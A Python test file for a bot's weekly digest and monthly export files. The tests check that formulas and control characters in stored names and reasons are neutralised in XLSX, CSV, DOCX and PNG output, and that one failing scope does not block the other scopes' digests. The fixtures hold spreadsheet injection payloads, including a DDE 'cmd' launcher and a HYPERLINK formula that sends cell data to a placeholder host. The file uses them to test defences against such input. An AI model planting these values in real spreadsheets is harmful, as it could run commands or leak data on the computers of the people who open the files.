"""Hostile text in the files leaders open: no live formula in XLSX or CSV, no mathtext or
control character that stops a PNG, XLSX or DOCX, and one failing scope never holds back
the others' weekly digest."""

from __future__ import annotations

import csv
import io
import logging
from datetime import UTC, date, datetime

import matplotlib.image
import pytest
from docx import Document
from openpyxl import load_workbook

from domain import notice
from domain.meeting_kinds import MeetingKind
from domain.periods import Month
from domain.policy import NoticeNames, default_policy
from messages.digest_chart import digest_chart_png
from messages.digest_files import digest_docx, digest_xlsx
from messages.file_text import FORMULA_STARTS, spreadsheet_cell
from messages.month_export_files import export_csv, export_xlsx
from services import digest_job
from services.digest import build_digest, export_month
from services.digest_delivery import plan_weekly_digests
from storage.db import Database
from storage.models import MeetingRecord, OutboxMessage, Unit
from tests.auxil.cast import Persona
from tests.auxil.updates import BotHarness, texts

AT = date(2026, 11, 30)  # Monday: the weekly digest's day
MOMENT = datetime(2026, 11, 30, 0, 30, tzinfo=UTC)  # 07:30 in Hà Nội
FORMULA = '=HYPERLINK("http://x/?"&A1,"Xem")'
HOSTILE_CLUSTER = "Cụm $x^$ \x07mới\x1b"  # mathtext, a bell and an escape (legacy data)
FORMULA_UNITS = {"VPUBND-01": "+cmd|' /C calc'!A0", "VPUBND-02": "@SUM(1+1)*cmd", "NTM": "-2+3"}


@pytest.fixture
def hostile(db: Database) -> None:
    """What an org CSV and a secretary's typing could have put in the database."""
    with db.transaction() as s:
        for code, name in {"C1": HOSTILE_CLUSTER, **FORMULA_UNITS}.items():
            unit = s.get(Unit, code)
            assert unit is not None
            unit.name = name
        s.add(
            MeetingRecord(
                unit_code="TNMT-01",
                kind=MeetingKind.REGULAR,
                month="2026-11",
                held=False,
                not_held_excused=False,
                not_held_reason=FORMULA,
                recorded_at=MOMENT,
                updated_at=MOMENT,
            )
        )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("Chi bộ = 1", "Chi bộ = 1"),
        ("Phòng\x00họp\x07", "Phònghọp"),
        (-4, -4),
        (91.5, 91.5),
        (None, None),
        (date(2026, 11, 30), date(2026, 11, 30)),
    ],
)
def test_one_place_neutralises_cells_and_keeps_numbers(value: object, expected: object) -> None:
    assert spreadsheet_cell(value) == expected


def assert_no_formula(values: list[object]) -> None:
    texts_ = [v for v in values if isinstance(v, str)]
    live = [v for v in texts_ if v.startswith(FORMULA_STARTS)]
    assert live == []


@pytest.mark.usefixtures("hostile")
def test_digest_and_exports_carry_hostile_text_as_inert_text(db: Database) -> None:
    policy = default_policy()
    digest = build_digest(db, "DUK", AT, policy)
    export = export_month(db, "DUK", Month(2026, 11), AT, policy)

    for data in (digest_xlsx(digest), export_xlsx(export)):
        wb = load_workbook(io.BytesIO(data))
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert_no_formula([c.value for c in cells])
        values = [c.value for c in cells]
        assert "'" + FORMULA_UNITS["VPUBND-01"] in values
        assert any(isinstance(v, int) and not isinstance(v, bool) for v in values)
    wb = load_workbook(io.BytesIO(digest_xlsx(digest)))
    reasons = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert "'" + FORMULA in reasons

    rows = list(csv.reader(io.StringIO(export_csv(export).decode("utf-8-sig"))))
    fields = [f for row in rows for f in row]
    assert_no_formula(fields)
    assert "'" + FORMULA in fields and "'" + FORMULA_UNITS["NTM"] in fields
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["VPUBND-01"][4].isdigit()  # members: still a number

    cluster = build_digest(db, "C1", AT, policy)
    png = digest_chart_png(cluster)
    assert matplotlib.image.imread(io.BytesIO(png)).shape[0] > 100
    doc = Document(
        io.BytesIO(digest_docx(cluster, notice.header(NoticeNames(bloc="Đảng ủy Khối"), AT)))
    )
    text = "\n".join(p.text for p in doc.paragraphs) + "\n".join(
        cell.text for table in doc.tables for row in table.rows for cell in row.cells
    )
    assert "Cụm $x^$ mới" in text and "\x07" not in text


@pytest.mark.usefixtures("hostile")
async def test_the_digest_command_still_answers_with_every_file(
    bot: BotHarness, cast: dict[str, Persona]
) -> None:
    for who in ("leader", "cluster_1"):
        calls = await bot.send(cast[who].user, "/digest")
        assert [c.method for c in calls] == ["sendMessage", "sendDocument", "sendPhoto"], who
        assert "Có lỗi" not in texts(calls)
    calls = await bot.send(cast["leader"].user, "/digest docx")
    assert [c.method for c in calls] == ["sendDocument"]


def planned_chats(db: Database) -> set[int]:
    with db.transaction() as s:
        return {m.chat_id for m in s.query(OutboxMessage).filter_by(reason="weekly_digest")}


@pytest.mark.usefixtures("hostile")
def test_weekly_planning_survives_hostile_names(db: Database, cast: dict[str, Persona]) -> None:
    assert plan_weekly_digests(db, MOMENT, default_policy()) > 0
    expected = {cast[k].user.id for k in ("leader", "cluster_1", "cluster_2")}
    assert planned_chats(db) >= expected


def test_a_failing_scope_is_logged_and_the_others_are_planned(
    db: Database,
    cast: dict[str, Persona],
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    real_chart = digest_job.digest_chart_png

    def chart(digest, locale=None):  # type: ignore[no-untyped-def]
        if digest.scope.code == "C1":
            raise RuntimeError("renderer exploded")
        return real_chart(digest, locale)

    monkeypatch.setattr(digest_job, "digest_chart_png", chart)
    with caplog.at_level(logging.ERROR):
        plan_weekly_digests(db, MOMENT, default_policy())
    assert cast["cluster_1"].user.id not in planned_chats(db)
    assert planned_chats(db) >= {cast[k].user.id for k in ("leader", "cluster_2")}
    assert "weekly digest of C1" in caplog.text and "renderer exploded" in caplog.text

    monkeypatch.setattr(digest_job, "digest_chart_png", real_chart)  # fixed: next tick
    plan_weekly_digests(db, MOMENT, default_policy())
    assert cast["cluster_1"].user.id in planned_chats(db)
